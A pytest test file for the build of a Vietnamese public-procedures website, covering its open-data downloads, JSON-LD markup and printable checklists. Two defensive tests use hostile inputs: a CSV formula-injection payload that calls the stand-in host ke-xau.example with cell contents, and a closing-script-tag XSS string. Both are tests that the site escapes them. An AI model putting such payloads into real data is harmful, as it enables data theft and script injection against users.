"""Open data downloads, schema.org JSON-LD on procedure pages, and the printable checklists.

The fixture catalogue is built into a temporary site (as tests/test_site.py does) and the downloads
are written next to it with `write_open_data`, then read back the way a user's tools would.
"""

import csv
import gzip
import html
import io
import json
import re
from pathlib import Path

import pytest

from buildlib import paths
from buildlib.bundle import catalogue_revision
from buildlib.catalogue.load import load
from buildlib.catalogue.yamlsource import load_text
from buildlib.site import built, opendata
from buildlib.site.build import build_command
from buildlib.site.links import check_links
from buildlib.site.shell import Shell
from chalicelib.versions import has_ended, shown_version, version_in_force

from .conftest import CATALOGUE, ROOT

TODAY = "2026-09-15"
REVISION = "0123456789abcdef0123456789abcdef01234567"
CODES = sorted(p.name for p in (CATALOGUE / "procedures").iterdir())
LD_JSON = re.compile(r'<script type="application/ld\+json">(.*?)</script>', re.S)


def build(catalogue: Path, tmp: Path) -> Path:
    out = io.StringIO()
    site_dir = tmp / "site"
    code = build_command(
        catalogue, out=out, today=TODAY, site_dir=site_dir, cache_dir=tmp / "cache"
    )
    assert code == 0, out.getvalue()
    return site_dir


def publish(catalogue: Path, site_dir: Path) -> list[tuple[str, int]]:
    """The downloads again, as if at another revision (`REVISION`)."""
    shell = Shell.from_html(built.read(site_dir / "_shell" / "index.html"))
    return opendata.write_open_data(load(catalogue), site_dir, TODAY, REVISION, shell=shell)[0]


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("opendata")
    site_dir = build(CATALOGUE, tmp)
    publish(CATALOGUE, site_dir)
    return site_dir


def versions_of(code: str, catalogue: Path = CATALOGUE) -> list[dict]:
    folder = catalogue / "procedures" / code
    return [
        load_text(p.read_text(encoding="utf-8"), p.name)[0] for p in sorted(folder.glob("*.yaml"))
    ]


def read_download(folder: Path, name: str) -> str:
    """A catalogue-wide download as text (thu-tuc.json and cpsv-ap.jsonld are published gzipped)."""
    if name in opendata.GZIPPED:
        return gzip.decompress((folder / f"{name}.gz").read_bytes()).decode("utf-8")
    return (folder / name).read_text(encoding="utf-8")


def read_csv(path: Path) -> list[dict]:
    with path.open(encoding="utf-8-sig", newline="") as f:  # the CSV starts with a BOM
        return list(csv.DictReader(f))


def rename(catalogue: Path, code: str, name: str) -> None:
    """Gives every version of `code` the name `name` (so no check sees a rename)."""
    quoted = "'" + name.replace("'", "''") + "'"
    for path in (catalogue / "procedures" / code).glob("*.yaml"):
        text = path.read_text(encoding="utf-8")
        path.write_text(re.sub(r"(?m)^name: .*$", f"name: {quoted}", text, count=1), "utf-8")


@pytest.mark.slow
def test_every_download_exists_parses_and_states_the_revision_and_build_date(site: Path) -> None:
    folder = site / "du-lieu-mo"
    whole = json.loads(read_download(folder, "thu-tuc.json"))
    sidecar = json.loads((folder / "thu-tuc.csv.meta.json").read_text(encoding="utf-8"))
    graph = json.loads(read_download(folder, "cpsv-ap.jsonld"))
    single = json.loads(opendata.read_single(opendata.single_path(site, CODES[0])))
    for document in (whole, sidecar, graph):
        assert document["meta"]["revision"] == REVISION
        assert document["meta"]["built"] == TODAY
    # a procedure's own file says when its content was produced: by the build, not by publish()
    assert single["meta"]["revision"] == catalogue_revision()
    assert single["meta"]["built"] == TODAY
    assert sidecar["meta"]["file"] == "thu-tuc.csv"
    rows = read_csv(folder / "thu-tuc.csv")
    assert list(rows[0]) == opendata.CSV_COLUMNS


@pytest.mark.slow
def test_every_procedure_is_in_every_download_with_all_its_versions(site: Path) -> None:
    folder = site / "du-lieu-mo"
    whole = json.loads(read_download(folder, "thu-tuc.json"))
    graph = json.loads(read_download(folder, "cpsv-ap.jsonld"))
    assert sorted(whole["procedures"]) == CODES
    assert [r["code"] for r in read_csv(folder / "thu-tuc.csv")] == CODES
    assert sorted(n["dct:identifier"] for n in graph["@graph"]) == CODES
    for code in CODES:
        starts = [v["effective_from"] for v in versions_of(code)]
        assert [v["effective_from"] for v in whole["procedures"][code]] == starts
        single = json.loads(opendata.read_single(opendata.single_path(site, code)))
        assert [v["effective_from"] for v in single["versions"]] == starts


@pytest.mark.slow
def test_the_csv_row_is_the_version_the_page_shows_today(site: Path) -> None:
    for row in read_csv(site / "du-lieu-mo" / "thu-tuc.csv"):
        shown = shown_version(versions_of(row["code"]), TODAY)
        assert row["effective_from"] == shown["effective_from"]
        assert row["url"] == f"{paths.site_url()}thu-tuc/{row['code']}/"
        in_force = version_in_force(versions_of(row["code"]), TODAY)
        assert (row["status"] == "in_force") == (in_force is not None)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_a_formula_gets_a_leading_apostrophe(start: str) -> None:
    assert opendata.safe_cell(start + "1+1") == "'" + start + "1+1"
    assert opendata.safe_cell("Thủ tục " + start) == "Thủ tục " + start


def test_a_procedure_name_starting_with_a_formula_is_neutralised_in_the_csv(
    catalogue_copy: Path, tmp_path: Path
) -> None:
    name = '=HYPERLINK("http://ke-xau.example/?"&A1,"Bấm vào đây")'
    rename(catalogue_copy, CODES[0], name)
    site_dir = tmp_path / "site"
    opendata.write_open_data(load(catalogue_copy), site_dir, TODAY, REVISION)
    row = next(
        r for r in read_csv(site_dir / "du-lieu-mo" / "thu-tuc.csv") if r["code"] == CODES[0]
    )
    assert row["name"] == "'" + name
    for rows in read_csv(site_dir / "du-lieu-mo" / "thu-tuc.csv"):
        assert not any(cell.startswith(opendata.FORMULA_START) for cell in rows.values())


@pytest.mark.slow
def test_cpsv_ap_channels_say_their_deadline_in_exactly_one_way(site: Path) -> None:
    graph = json.loads(read_download(site / "du-lieu-mo", "cpsv-ap.jsonld"))
    assert graph["@context"]["motcua"] == f"{paths.site_url()}du-lieu-mo/tu-vung/#"
    ways = ("cv:processingTime", "motcua:workingDays", "motcua:sameDay")
    for service in graph["@graph"]:
        assert service["@type"] == "cpsv:PublicService"
        for channel in service["cv:hasChannel"]:
            said = [w for w in ways if w in channel]
            unpublished = "cv:processingTime" in channel.get("motcua:unpublished", [])
            assert len(said) + unpublished == 1, channel
            if "cv:processingTime" in channel:
                assert re.fullmatch(r"P\d+D|PT\d+H", channel["cv:processingTime"])
        for cost in service["cv:hasCost"]:
            assert cost["@type"] == "cv:Cost"
            if "cv:hasValue" in cost:
                assert cost["cv:currency"]["@id"] == opendata.CURRENCY_VND
            else:
                assert cost["motcua:unpublished"] == ["cv:hasValue"]


def test_deadline_units_map_to_iso_durations_or_working_days() -> None:
    assert opendata._duration({"amount": 3, "unit": "days"}) == {"cv:processingTime": "P3D"}
    assert opendata._duration({"amount": 4, "unit": "hours"}) == {"cv:processingTime": "PT4H"}
    assert opendata._duration({"amount": 5, "unit": "working_days"}) == {"motcua:workingDays": 5}
    assert opendata._duration({"amount": 1, "unit": "unpublished"}) == {
        "motcua:unpublished": ["cv:processingTime"]
    }


@pytest.mark.slow
def test_the_open_data_page_lists_the_downloads_with_sizes_revision_and_date(site: Path) -> None:
    raw = built.read(site / "du-lieu-mo" / "index.html")
    for name in ("thu-tuc.json.gz", "thu-tuc.csv", "thu-tuc.csv.meta.json", "cpsv-ap.jsonld.gz"):
        assert f'href="{name}"' in raw
    assert REVISION in raw and "15/09/2026" in raw
    assert re.search(r"\d+(,\d)? (KB|MB|B)<", raw)
    assert check_links("du-lieu-mo/index.html", raw, lambda p: (site / p).exists()) == []


@pytest.mark.slow
def test_every_procedure_page_carries_a_parseable_government_service(site: Path) -> None:
    for code in CODES:
        raw = built.read(site / "thu-tuc" / code / "index.html")
        if has_ended(versions_of(code), TODAY):
            assert LD_JSON.findall(raw) == [], f"{code} has ended: no service to advertise"
            continue
        (block,) = LD_JSON.findall(raw)
        data = json.loads(block)
        assert data["@type"] == "GovernmentService"
        assert data["@context"] == "https://schema.org"
        assert data["name"] == shown_version(versions_of(code), TODAY)["name"]
        assert data["url"] == f"{paths.site_url()}thu-tuc/{code}/"


@pytest.mark.slow
def test_a_closing_script_tag_in_catalogue_text_cannot_break_out_of_the_json_ld(
    catalogue_copy: Path, tmp_path: Path
) -> None:
    name = "Thủ tục </script><script>alert(1)</script><!-- thử"
    rename(catalogue_copy, CODES[0], name)
    raw = built.read(build(catalogue_copy, tmp_path) / "thu-tuc" / CODES[0] / "index.html")
    (block,) = LD_JSON.findall(raw)  # the JSON-LD element ends where it should
    assert json.loads(block)["name"] == name
    assert "<script>alert(1)" not in LD_JSON.sub("", raw)  # elsewhere it is escaped text
    assert not re.search(r"(?i)<(/|!--|script)", block)
    assert "\u2028" not in opendata.script_json({"x": "a\u2028b"})


@pytest.mark.slow
def test_every_procedure_has_a_printable_checklist_with_a_qr_code_and_every_document(
    site: Path,
) -> None:
    for code in CODES:
        raw = built.read(site / "thu-tuc" / code / "in" / "index.html")
        assert re.search(r'<svg [^>]*role="img"', raw), code
        content = html.unescape(re.sub(r"\s+", " ", raw))
        versions = versions_of(code)
        version = version_in_force(versions, TODAY) or shown_version(versions, TODAY)
        for case in version["cases"]:
            for document in case.get("documents", []):
                assert re.sub(r"\s+", " ", document["name"]) in content, (code, document["name"])
        assert f"{paths.site_url()}thu-tuc/{code}/" in content
        page = built.read(site / "thu-tuc" / code / "index.html")
        assert 'href="../../thu-tuc/' + code + '/in/"' in page


def test_the_qr_code_is_inline_svg_made_at_build_time() -> None:
    svg = opendata.qr_svg("https://example.org/thu-tuc/1.000656/")
    assert svg.startswith("<svg ") and svg.rstrip().endswith("</svg>")
    assert "<script" not in svg and "href" not in svg


def test_print_styles_hide_the_site_frame() -> None:
    css = (ROOT / "theme" / "assets" / "site.css").read_text(encoding="utf-8")
    assert "@media print" in css and ".md-header" in css.split("@media print", 1)[1]


@pytest.mark.slow
def test_a_rebuild_after_one_change_publishes_the_same_downloads_as_a_full_build(
    catalogue_copy: Path, tmp_path: Path
) -> None:
    build(catalogue_copy, tmp_path / "a")
    rename(catalogue_copy, CODES[1], 'Thủ tục đổi tên, có dấu "ngoặc kép" và ; chấm phẩy')
    out = io.StringIO()
    code = build_command(
        catalogue_copy,
        out=out,
        today=TODAY,
        site_dir=tmp_path / "a" / "site",
        cache_dir=tmp_path / "a" / "cache",
    )
    assert code == 0 and "(một phần)" in out.getvalue(), out.getvalue()
    full = build(catalogue_copy, tmp_path / "b")
    rebuilt = tmp_path / "a" / "site" / "du-lieu-mo"
    for name in ("thu-tuc.json.gz", "thu-tuc.csv", "thu-tuc.csv.meta.json", "cpsv-ap.jsonld.gz"):
        assert (rebuilt / name).read_bytes() == (full / "du-lieu-mo" / name).read_bytes(), name
    singles = sorted(p.name for p in (rebuilt / "thu-tuc").iterdir())
    assert singles == [f"{c}.json.gz" for c in CODES]
    for name in singles:
        assert (rebuilt / "thu-tuc" / name).read_bytes() == (
            full / "du-lieu-mo" / "thu-tuc" / name
        ).read_bytes(), name
    whole = json.loads(read_download(rebuilt, "thu-tuc.json"))
    assert whole["procedures"][CODES[1]][-1]["name"].startswith("Thủ tục đổi tên")
    # one procedure per line, for line tools and diffs
    assert len(read_download(rebuilt, "thu-tuc.json").splitlines()) == len(CODES) + 2


def test_a_procedure_file_keeps_its_bytes_until_its_content_changes(
    catalogue_copy: Path, tmp_path: Path
) -> None:
    catalogue = load(catalogue_copy)
    everything = {c: [d.data for d in docs] for c, docs in catalogue.procedures().items()}
    site_dir = tmp_path / "site"
    fragments = opendata.write_open_data(catalogue, site_dir, TODAY, "aaaa").fragments
    folder = site_dir / "du-lieu-mo"
    before = {p.name: p.read_bytes() for p in (folder / "thu-tuc").iterdir()}
    changed = everything[CODES[2]]
    changed[-1] = {**changed[-1], "name": "Tên mới"}
    unchanged = everything[CODES[3]]  # serialised again, same content
    later = "2026-10-01"
    written = opendata.write_open_data(
        catalogue,
        site_dir,
        later,
        "bbbb",
        procedures={CODES[2]: changed, CODES[3]: unchanged},
        fragments={c: f for c, f in fragments.items() if c not in (CODES[2], CODES[3])},
    ).files
    after = {p.name: p.read_bytes() for p in (folder / "thu-tuc").iterdir()}
    assert set(after) == set(before)
    assert [n for n in after if after[n] != before[n]] == [f"{CODES[2]}.json.gz"]
    single = json.loads(gzip.decompress(after[f"{CODES[2]}.json.gz"]))
    assert (single["meta"]["revision"], single["meta"]["built"]) == ("bbbb", later)
    assert single["versions"][-1]["name"] == "Tên mới"
    assert json.loads(gzip.decompress(after[f"{CODES[3]}.json.gz"]))["meta"]["revision"] == "aaaa"
    whole = json.loads(read_download(folder, "thu-tuc.json"))
    assert (whole["meta"]["revision"], whole["meta"]["built"]) == ("bbbb", later)
    assert whole["procedures"][CODES[2]][-1]["name"] == "Tên mới"
    assert sorted(whole["procedures"]) == CODES
    assert {p for p, _ in written} == {
        f"du-lieu-mo/{n}"
        for n in (
            "thu-tuc.json.gz",
            "thu-tuc.csv",
            "thu-tuc.csv.meta.json",
            "datapackage.json",
            "cpsv-ap.jsonld.gz",
            "tu-vung/motcua.ttl",
        )
    }


@pytest.mark.slow
def test_the_checklist_is_a_light_page_with_the_site_styles_and_no_script(site: Path) -> None:
    page = site / "thu-tuc" / CODES[0] / "in" / "index.html"
    raw = built.read(page)
    assert '<html lang="vi"' in raw and "<main" in raw and "<title>Danh sách giấy tờ: " in raw
    # Read and printed: the one script is the print button's, no inline script or handler.
    assert re.findall(r"<script\b[^>]*>", raw) == ['<script src="../../../assets/print.js" defer>']
    assert not re.search(r"\son[a-z]+=", raw) and "__drawer" not in raw  # nor a menu button
    assert "tthc-menu" not in raw
    sheets = re.findall(r'<link rel="stylesheet" href="([^"]+)"', raw)
    assert any(s.endswith("site.css") for s in sheets)
    assert all((page.parent / s).resolve().is_file() for s in sheets)
    home = re.search(r'<a href="([^"]+)"[^>]*class="md-header__button md-logo"', raw)
    assert home and (page.parent / home[1]).resolve() == site.resolve()
    stable = built.read(site / "thu-tuc" / CODES[0] / "index.html")
    assert len(raw) < len(stable)
